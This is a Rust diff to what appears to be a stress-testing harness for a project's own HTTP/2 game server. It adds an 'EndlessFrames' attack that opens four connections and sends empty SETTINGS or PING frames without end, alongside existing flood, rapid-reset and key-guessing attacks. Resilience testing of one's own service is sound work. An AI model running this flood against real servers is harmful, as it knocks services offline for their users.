@@ -5,6 +5,7 @@ use std::time::Duration;
 use bridgemaster_proto::v1::{CreateMatchResponse, ListMatchesRequest};
 use tokio::{
     io::{AsyncReadExt as _, AsyncWriteExt as _},
+    select,
     time::{sleep, timeout},
 };
 
@@ -31,6 +32,8 @@ pub(crate) enum Attack {
     ReconnectStorm,
     /// Bytes that are no HTTP/2.
     JunkFrames,
+    /// Frames of HTTP/2 that ask for nothing but an acknowledgement, without end.
+    EndlessFrames,
     /// Handshakes of TLS, or its beginning on a port without it, byte by byte.
     SlowHandshakes,
     /// Keys that are made up.
@@ -38,11 +41,12 @@ pub(crate) enum Attack {
 }
 
 impl Attack {
-    pub(crate) const ALL: [Self; 6] = [
+    pub(crate) const ALL: [Self; 7] = [
         Self::RapidReset,
         Self::HelloFlood,
         Self::ReconnectStorm,
         Self::JunkFrames,
+        Self::EndlessFrames,
         Self::SlowHandshakes,
         Self::KeyGuessing,
     ];
@@ -73,6 +77,7 @@ async fn try_once(how: Attack, prey: &Prey, round: u64) -> Result<(), Failure> {
         }
         Attack::ReconnectStorm => take_seat(how, prey, &prey.matches[0], 50).await,
         Attack::JunkFrames => junk(how, prey, round).await,
+        Attack::EndlessFrames => endless_frames(how, prey, round).await,
         Attack::SlowHandshakes => {
             let mut stream = tcp(how.address(), prey.server).await?;
             // The beginning of a ClientHello.
@@ -133,6 +138,41 @@ async fn junk(how: Attack, prey: &Prey, round: u64) -> Result<(), Failure> {
     stream.write_all(&junk).await?;
     let mut heard = Vec::new();
     stream.read_to_end(&mut heard).await?;
+    Ok(())
+}
+
+async fn endless_frames(how: Attack, prey: &Prey, round: u64) -> Result<(), Failure> {
+    /// SETTINGS without a setting, which also ends the preface.
+    const SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];
+    /// PING with its eight bytes.
+    const PING: &[u8] = &[0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
+
+    let frame = if round.is_multiple_of(2) {
+        PING
+    } else {
+        SETTINGS
+    };
+    let frames = frame.repeat(1_000);
+    // As many as a machine may have threads for a server.
+    let flood = async || -> Result<(), Failure> {
+        let stream = tcp(how.address(), prey.server).await?;
+        let (mut answers, mut stream) = stream.into_split();
+        stream
+            .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
+            .await?;
+        stream.write_all(SETTINGS).await?;
+        let sending = async {
+            loop {
+                stream.write_all(&frames).await?;
+            }
+        };
+        let mut nowhere = tokio::io::sink();
+        select! {
+            sent = sending => sent,
+            _ = tokio::io::copy(&mut answers, &mut nowhere) => Ok(()),
+        }
+    };
+    tokio::try_join!(flood(), flood(), flood(), flood())?;
     Ok(())
 }
 
